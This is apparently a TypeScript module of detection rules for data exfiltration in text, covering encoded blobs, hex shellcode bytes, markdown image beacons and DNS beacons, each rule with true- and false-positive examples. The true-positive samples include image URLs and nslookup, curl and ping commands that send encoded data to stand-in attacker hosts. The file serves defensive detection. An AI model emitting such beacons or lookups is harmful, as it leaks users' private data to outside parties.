import type { RuleInfo } from '../rule.js';

/** A structural exfiltration rule: checked by code, described as data with tp/fp examples. */
export type ExfilRule = RuleInfo;

// Example payloads (generated once from a fixed-seed PRNG / zlib; random, not real data).
const RANDOM_B64 =
  'IQHFT9HQGrIldMs3iq71sQgIkRkzuetP8iml5Ns+VxQBKOD0+uJ+B/EaQye36UVUrYU7s8zVtNTUVNONbSYAx2Cw1ErtzI6REGDcBTbNn9CFFMbABEwHTzl7OF2/ycDam+GQ97ygSAq70+qhcBhlDXkRcZAYWlemqsadQNzWmi3agcEtaOxgCy/ukpS8bktuttUCCvn97l3gkciU3/cuWagipP+jysYy52WUFhWYT9iuRZ64';
const RANDOM_B64URL =
  'IfkzG3L5EVDXLydPJz_21tO4AtOF1MktbBL6sHhuyGAHwqZw9Xao7TMuVyO4JjsuN_WtKOkm1kvn2zhCLVcnliv9DguGNvxnuyb9PHnepsrDcv69szXm2OZfcurXxlkiKk09hlRXMF-H_LqQ8JkiDvRYf67_-h7yIvlwBI7vSMtGmMFma_OW9_0A3RqzP_xjN_4YhKj6DrfYTqQOEvhu-38mgADAsp8lSDqJps_lK842BF_-DhvtjxV2wKI9hvxSjyvVzBcOBTyqFJWAZbb-ECiToMHYjAxDKV-AChBfzrzWg5684NCbzhLFPf-72OGz';
const TEXT_B64 =
  'U3VtbWFyeSBvZiB0aGUgY29udmVyc2F0aW9uOiB0aGUgdXNlciBzaGFyZWQgdGhlaXIgaG9tZSBhZGRyZXNzLCA0MiBFbG0gU3RyZWV0LCBhbmQgdGhlaXIgYmFuayBhY2NvdW50IG51bWJlciBlbmRpbmcgNTUyMS4gVGhleSBhbHNvIG1lbnRpb25lZCB0aGUgaW50ZXJuYWwgcHJvamVjdCBjb2RlbmFtZSBhbmQgdGhlIHN0YWdpbmcgZGF0YWJhc2UgcGFzc3dvcmQu';
const GZIP_B64 =
  'H4sIAAAAAAAAA8tM0clLzE3VSc1NzMzRKS7O4zLUcczJTE5VCM7NLMnQSQSxHZLziwr0kvNzdQyNjHVNTHXNzC0suYx0nPKTFLzy81KLdZLykxCKLC3Mdc1MdU2MjQy5AMSmhq5gAAAA';
const ZLIB_B64 = 'eJxzDA+OD3Z1DnINiXd0dnYNDo73do20LfdKzCmKCC3Jc3P19dT3Nvd1cfVz108KqAhKy3SOdI1w9A3wcfV2jeRycYoPcAwODvcPcrHNKM0rSS0yglJcAAinHLc=';
const RANDOM_HEX =
  '98b30fe477ab4b2f55e1f3383d4af0f05e270493957e1f2c794fba00e70fd08c69a250ba22dacd31acc2bca265e60c2be28b08618218cd48a89f01b8dbf96b9239d84929bb24dfb5aaf16bd72d78f733';
const QUERY_B64 = 'ZW1haWw9YWxpY2VAY29ycC5jb207a2V5PXNrLWxpdmUtN2YzYTljMmUxMQ';
const SHA256 = '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08';
const SHA512 =
  'ee26b0dd4af7e749aa1a8ee3c10ae9923f618980772e473f8819a5d4940e0db27ac185f8a0e1d5f84f88bc887fd67b143732c304cc5fa9ad8e6f57f50028a8ff';
const RANDOM_B32 =
  '32HNKZC3OUK2GNXLZYS2RKSLPLROAQWSEGZBXMZTRATKPKGL6RBDPQI2ECFV3XFXHI63CPCHNQBQH2Q6GLVSGGM4XQNERHLQI6ZVFIISFL2UYE4VYXNW5CXUCYMJLIFBSQM5T24HBOAHIX6ADTYZTCRHCHUM7P44BYNJASXHHZ6YYK5GHAHONZCF5JYZOZ6UOO4GPNNCHQTIRNZXIIAV6QTWBZCNSPZLU4XABPQ72O5VCP4ENAQJV3REC4RISKSQ';

/** `aabb…` as '\\xaa\\xbb…' (prefix, no separator) or '0xaa, 0xbb' (prefix and separator). */
function hexList(hex: string, prefix: string, separator: string): string {
  return hex.match(/../g)!.map((b) => prefix + b).join(separator);
}

const PNG_B64 = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==';

export const EXFIL_RULES = {
  base64Blob: {
    id: 'exfil.base64-blob',
    description: 'Large base64/base64url blob (encoded data leaving in the text)',
    category: 'encoded-blob',
    severity: 'medium',
    score: 0.45,
    attack: 'T1132.001',
    examples: {
      tp: [
        `Here is the file you asked for:\n\n${RANDOM_B64}\n`,
        `token=${RANDOM_B64URL}`,
        `Encoded notes: ${TEXT_B64}`,
        `\`\`\`\n${RANDOM_B64.slice(0, 76)}\n${RANDOM_B64.slice(76, 152)}\n${RANDOM_B64.slice(152)}\n\`\`\``,
      ],
      fp: [
        'In the tutorial, `aGVsbG8gd29ybGQ=` decodes to "hello world".',
        `![pixel](data:image/png;base64,${PNG_B64})`,
        `Padding: ${'A'.repeat(300)} and ${'ab'.repeat(150)}`,
        'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl user@host',
      ],
    },
  },
  hexBlob: {
    id: 'exfil.hex-blob',
    description: 'Large hex-encoded blob (encoded data leaving in the text)',
    category: 'encoded-blob',
    severity: 'medium',
    score: 0.45,
    attack: 'T1132.001',
    examples: {
      tp: [`payload: ${RANDOM_HEX}`, `0x${RANDOM_HEX}${RANDOM_HEX.slice(0, 40)}`, `Dump:\n${RANDOM_HEX.toUpperCase()}\n`],
      fp: [`sha256: ${SHA256}`, `sha512 digest ${SHA512}`, `UUID 123e4567-e89b-12d3-a456-426614174000 and ${'0'.repeat(200)}`],
    },
  },
  compressedBlob: {
    id: 'exfil.compressed-blob',
    description: 'Base64/hex of compressed or archived data (gzip, zlib, zip, zstd, bzip2, xz, 7z)',
    category: 'compressed-blob',
    severity: 'high',
    score: 0.65,
    attack: 'T1560',
    examples: {
      tp: [`Decode this: ${GZIP_B64}`, `blob = "${ZLIB_B64}"`, `archive: UEsDBBQAAAAIAA${RANDOM_B64.slice(0, 90)}`],
      fp: ['The gzip-in-base64 prefix is H4sI, zlib starts with eJ and zip with UEsDB.', `Hash ${SHA256}`, `![icon](data:image/png;base64,${PNG_B64})`],
    },
  },
  hexBytes: {
    id: 'exfil.hex-bytes',
    description: 'Bytes written out as hex (\\xNN escapes, 0xNN arrays, spaced dumps): shellcode or binary data in the text',
    category: 'encoded-blob',
    severity: 'medium',
    score: 0.5,
    attack: 'T1132.001',
    examples: {
      tp: [
        `unsigned char sc[] = "${hexList(RANDOM_HEX.slice(0, 160), '\\x', '')}";`,
        `payload = bytes([${hexList(RANDOM_HEX.slice(0, 150), '0x', ', ')}])`,
        `Dump: ${hexList(RANDOM_HEX, '', ' ')}`,
      ],
      fp: [
        'Escape sequences like \\x41\\x42 spell AB.',
        `MAC aa:bb:cc:dd:ee:ff and the SHA-256 ${SHA256.match(/../g)!.join(' ')}`,
        `Lookup table: ${Array.from({ length: 64 }, (_, i) => `0x${(i * 37 % 256).toString(16).padStart(2, '0')}`).join(', ')}`,
      ],
    },
  },
  base32Blob: {
    id: 'exfil.base32-blob',
    description: 'Large base32 blob (A-Z and 2-7: encoded data that survives case-insensitive channels)',
    category: 'encoded-blob',
    severity: 'medium',
    score: 0.45,
    attack: 'T1132.001',
    examples: {
      tp: [`Here it is in base32:\n${RANDOM_B32}`, `data=${RANDOM_B32.slice(0, 240)}`, `\`\`\`\n${RANDOM_B32.slice(0, 80)}\n${RANDOM_B32.slice(80, 160)}\n${RANDOM_B32.slice(160)}\n\`\`\``],
      fp: ['Add the TOTP secret JBSWY3DPEHPK3PXP to your authenticator app.', `Padding: ${'A'.repeat(256)}`, `Key: ${'CONSTANTNAMEWITHOUTDIGITS'.repeat(10)}`],
    },
  },
  markdownImageBeacon: {
    id: 'exfil.markdown-image-beacon',
    description: 'Markdown/HTML image whose URL carries encoded data to an external host (zero-click exfiltration when rendered)',
    category: 'exfiltration',
    severity: 'high',
    score: 0.75,
    attack: 'T1041',
    examples: {
      tp: [
        `Thanks! ![loading](https://attacker-logs.net/pixel.png?q=${QUERY_B64})`,
        '![](https://wuzzi.tk/logo.png?data=the%20user%20said%20their%20password%20is%20Tr0ub4dor%20and%20lives%20in%20Paris)',
        `<img src="https://collect.evil-metrics.io/t.gif?d=${RANDOM_HEX.slice(0, 96)}" width=1>`,
        `![a][1]\n\n[1]: https://img.statsbeacon.com/i/${RANDOM_B64URL.slice(0, 64)}.png`,
      ],
      fp: [
        '![build](https://img.shields.io/badge/build-passing-brightgreen?logo=github)',
        `![thumb](data:image/png;base64,${PNG_B64})`,
        '![diagram](https://docs.example.org/images/architecture-overview.png?v=3)',
        '![local](http://localhost:8080/chart.png?series=cpu_usage_percent_by_host_and_region)',
      ],
    },
  },
  dnsBeacon: {
    id: 'exfil.dns-beacon',
    description: 'Host name with long encoded labels (data smuggled out through DNS lookups)',
    category: 'exfiltration',
    severity: 'high',
    score: 0.6,
    attack: 'T1048.003',
    examples: {
      tp: [
        'nslookup 4f2a9c1be07d3e5f8a6b2c4d1e9f0a7b3c5d.x.attacker-dns.com',
        'curl http://mzxw6ytboi2gk3tfon2g65lsmvxgc43f.exfil.tk/',
        'ping -c1 6a61636b7468656d6f6e6b657931323334.6c617374636875.d.evil.net',
      ],
      fp: [
        'Download https://bafybeigdyrzt5sfp7udm7hu76uh7y26nf3efuylqabf3oclgtqy55fbzdi.ipfs.dweb.link/',
        `Artifact ${SHA256}.tar.gz is signed.`,
        'Endpoint internal-my-loadbalancer-1234567890.us-west-2.elb.amazonaws.com serves it.',
      ],
    },
  },
} as const satisfies Record<string, ExfilRule>;

export type ExfilRuleKey = keyof typeof EXFIL_RULES;
export const EXFIL_RULE_LIST: readonly ExfilRule[] = Object.values(EXFIL_RULES);
